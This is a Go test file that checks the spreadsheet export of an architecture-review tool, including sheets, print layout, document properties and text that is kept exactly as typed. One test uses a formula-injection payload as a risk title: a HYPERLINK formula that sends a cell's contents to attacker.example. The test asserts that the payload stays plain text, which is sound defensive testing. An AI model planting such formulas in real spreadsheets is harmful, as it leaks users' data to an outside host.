package report

import (
	"archive/zip"
	"bytes"
	"encoding/json"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/archreview/archreview/model"

	"github.com/xuri/excelize/v2"
)

// workbookText is every cell of a workbook as text, sheet by sheet, row by
// row, tab-separated.
func workbookText(t *testing.T, b []byte) []byte {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(b))
	if err != nil {
		t.Fatalf("the workbook does not open: %v", err)
	}
	defer f.Close()
	var out bytes.Buffer
	for _, sheet := range f.GetSheetList() {
		out.WriteString("== " + sheet + "\n")
		rows, err := f.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		for _, row := range rows {
			out.WriteString(strings.Join(row, "\t") + "\n")
		}
	}
	return out.Bytes()
}

// jsonRiskIDs are the register's ids as the JSON export has them.
func jsonRiskIDs(t *testing.T, d *model.Document) []string {
	t.Helper()
	b, err := Render(d, FormatJSON, ExportOptions{Now: testNow})
	if err != nil {
		t.Fatal(err)
	}
	var doc struct {
		Summary struct {
			Risks []struct {
				ID string `json:"id"`
			} `json:"risks"`
		} `json:"summary"`
	}
	if err := json.Unmarshal(b, &doc); err != nil {
		t.Fatal(err)
	}
	var ids []string
	for _, r := range doc.Summary.Risks {
		ids = append(ids, r.ID)
	}
	if len(ids) < 5 {
		t.Fatalf("the JSON has only %d risks", len(ids))
	}
	return ids
}

// renderWorkbook is the session's workbook, opened by excelize; the test's
// end closes it.
func renderWorkbook(t *testing.T, d *model.Document) *excelize.File {
	t.Helper()
	b, err := Render(d, FormatXLSX, ExportOptions{Now: testNow})
	if err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(bytes.NewReader(b))
	if err != nil {
		t.Fatalf("the workbook does not open: %v", err)
	}
	t.Cleanup(func() { f.Close() })
	return f
}

func TestWorkbookReopens(t *testing.T) {
	d := model.DemoAnswers(testNow)
	const formula = `=HYPERLINK("http://attacker.example/?q="&A1,"Open")`
	d.Flows[0].Failure.Risks[0].Title = formula
	f := renderWorkbook(t, d)
	if got := f.GetSheetList(); !slices.Equal(got, WorkbookSheets) {
		t.Fatalf("sheets %v, want %v", got, WorkbookSheets)
	}
	rows, err := f.GetRows(SheetRegister)
	if err != nil {
		t.Fatal(err)
	}
	ids := jsonRiskIDs(t, d)
	if len(rows)-1 != len(ids) {
		t.Fatalf("%d register rows for %d risks in the JSON", len(rows)-1, len(ids))
	}
	if rows[0][0] != "ID" {
		t.Fatalf("the register's first column is %q, want ID", rows[0][0])
	}
	titleCol := slices.Index(rows[0], "Risk")
	found := false
	for i, row := range rows[1:] {
		if row[0] != ids[i] {
			t.Errorf("row %d has id %q, the JSON %q", i+2, row[0], ids[i])
		}
		if row[titleCol] != formula {
			continue
		}
		found = true
		cell, _ := excelize.CoordinatesToCellName(titleCol+1, i+2)
		if fm, _ := f.GetCellFormula(SheetRegister, cell); fm != "" {
			t.Errorf("the title became the formula %q", fm)
		}
		if typ, _ := f.GetCellType(SheetRegister, cell); typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString {
			t.Errorf("the formula-looking title is a cell of type %v, not text", typ)
		}
	}
	if !found {
		t.Error("no register row holds the formula-looking title as typed")
	}
	for _, sheet := range WorkbookSheets {
		panes, err := f.GetPanes(sheet)
		if err != nil || !panes.Freeze || panes.YSplit != 1 {
			t.Errorf("%s: the header row is not frozen (%+v, %v)", sheet, panes, err)
		}
		tables, err := f.GetTables(sheet)
		if err != nil || len(tables) != 1 {
			t.Errorf("%s: %d tables (the header's filters), want 1: %v", sheet, len(tables), err)
		}
	}
	formats, err := f.GetConditionalFormats(SheetRegister)
	if err != nil || len(formats) == 0 {
		t.Fatalf("the register has no severity colours: %v", err)
	}
	for _, fs := range formats {
		if len(fs) != 4 {
			t.Errorf("%d severity rules, want one a band", len(fs))
		}
	}
	width, err := f.GetColWidth(SheetRegister, "E")
	if err != nil || width < 20 || width > sheetMaxWidth {
		t.Errorf("the risk column is %v wide (%v); it should fit its titles", width, err)
	}
}

// TestWorkbookKeepsTypedText: the rows are written into the workbook by
// archreview itself, so every text must read back as typed, including what
// XML or a spreadsheet would otherwise take as markup or as an escaped
// character.
func TestWorkbookKeepsTypedText(t *testing.T) {
	titles := []string{
		"_x0041_ stays as typed", "_x005F_x0041_ too", "_x005F_", "_x0041_x0042_ overlap", "_x004G_ is no escape", "ends in _x00", " leading and trailing space ",
		"line one\nline two", `quotes " and ' and <b>&amp;</b>`, "astral 𝄞 and emoji 🙂", "\ttab first",
	}
	d := model.DemoAnswers(testNow)
	for i, title := range titles {
		d.Flows[i%len(d.Flows)].Failure.Risks = append(d.Flows[i%len(d.Flows)].Failure.Risks, model.Risk{ID: model.NewIDAt(testNow, uint64(900+i)), Title: title, Impact: 5, Likelihood: 5})
	}
	f := renderWorkbook(t, d)
	rows, err := f.GetRows(SheetRegister)
	if err != nil {
		t.Fatal(err)
	}
	col := slices.Index(rows[0], "Risk")
	got := map[string]bool{}
	for _, row := range rows[1:] {
		got[row[col]] = true
	}
	for _, title := range titles {
		if want := sanitizeText(title); !got[want] {
			t.Errorf("no register row reads %q", want)
		}
	}
}

// The workbook is a file the client prints and files: its properties are
// the session's, each sheet prints landscape at the page's width with its
// header on every page, ids stay on one line, and the same session gives
// the same bytes however often it is written.
func TestWorkbookPropertiesAndPrinting(t *testing.T) {
	d := model.DemoAnswers(testNow)
	d.Session.Facilitator = "Ana Müller"
	d.Session.CreatedAt, d.Session.UpdatedAt = "2026-03-02T09:00:00Z", "2026-03-04T17:30:00Z"
	e := Export(d, ExportOptions{Now: testNow, Firm: &Firm{Name: "Northwind Advisory"}})
	first := written(t, WriteWorkbook, e)
	for range 4 {
		if again := written(t, WriteWorkbook, e); !bytes.Equal(again, first) {
			t.Fatal("the same session written twice gives two workbooks")
		}
	}
	f, err := excelize.OpenReader(bytes.NewReader(first))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	props, err := f.GetDocProps()
	if err != nil {
		t.Fatal(err)
	}
	if props.Creator != "Ana Müller" || props.Created != "2026-03-02T09:00:00Z" || props.Modified != "2026-03-04T17:30:00Z" ||
		!strings.Contains(props.Title, d.Session.Name) {
		t.Errorf("document properties %+v, want the session's title, facilitator and dates", props)
	}
	app, err := f.GetAppProps()
	if err != nil || app.Company != "Northwind Advisory" {
		t.Errorf("company %q (%v), want the firm's name", app.Company, err)
	}
	names := map[string]string{}
	for _, dn := range f.GetDefinedName() {
		if dn.Name == "_xlnm.Print_Titles" {
			names[dn.Scope] = dn.RefersTo
		}
	}
	for _, sheet := range WorkbookSheets {
		layout, err := f.GetPageLayout(sheet)
		if err != nil {
			t.Fatal(err)
		}
		if *layout.Orientation != "landscape" || *layout.FitToWidth != 1 || *layout.FitToHeight != 0 {
			t.Errorf("%s prints %s, %d wide, %d high; want landscape at one page's width", sheet, *layout.Orientation, *layout.FitToWidth, *layout.FitToHeight)
		}
		sp, err := f.GetSheetProps(sheet)
		if err != nil || sp.FitToPage == nil || !*sp.FitToPage {
			t.Errorf("%s is not fitted to the page (%v)", sheet, err)
		}
		if names[sheet] != "'"+sheet+"'!$1:$1" {
			t.Errorf("%s repeats %q on every printed page, want its header row", sheet, names[sheet])
		}
	}
	zr, err := zip.NewReader(bytes.NewReader(first), int64(len(first)))
	if err != nil {
		t.Fatal(err)
	}
	if zr.File[0].Name != "[Content_Types].xml" {
		t.Errorf("the first part is %s, want [Content_Types].xml", zr.File[0].Name)
	}
	for _, zf := range zr.File {
		if !zf.Modified.UTC().Equal(time.Date(2026, 3, 4, 17, 30, 0, 0, time.UTC)) {
			t.Errorf("part %s is dated %v, not the session's last change", zf.Name, zf.Modified)
		}
	}
	rows, err := f.GetRows(SheetRegister)
	if err != nil {
		t.Fatal(err)
	}
	for _, header := range []string{"ID", "Ticket", "Label"} {
		c := slices.Index(rows[0], header)
		cell, _ := excelize.CoordinatesToCellName(c+1, 2)
		style, err := f.GetCellStyle(SheetRegister, cell)
		if err != nil {
			t.Fatal(err)
		}
		st, err := f.GetStyle(style)
		if err != nil || st.Alignment == nil || st.Alignment.WrapText {
			t.Errorf("the register's %s column wraps (%v)", header, err)
		}
		col, _ := excelize.ColumnNumberToName(c + 1)
		width, _ := f.GetColWidth(SheetRegister, col)
		for _, row := range rows[1:] {
			if c < len(row) && float64(utf8.RuneCountInString(row[c])+2) > width {
				t.Errorf("the %s column is %v wide, too narrow for %q", header, width, row[c])
			}
		}
	}
	cell, _ := excelize.CoordinatesToCellName(slices.Index(rows[0], "Risk")+1, 2)
	style, _ := f.GetCellStyle(SheetRegister, cell)
	if st, err := f.GetStyle(style); err != nil || st.Alignment == nil || !st.Alignment.WrapText {
		t.Errorf("the register's titles do not wrap (%v)", err)
	}
}
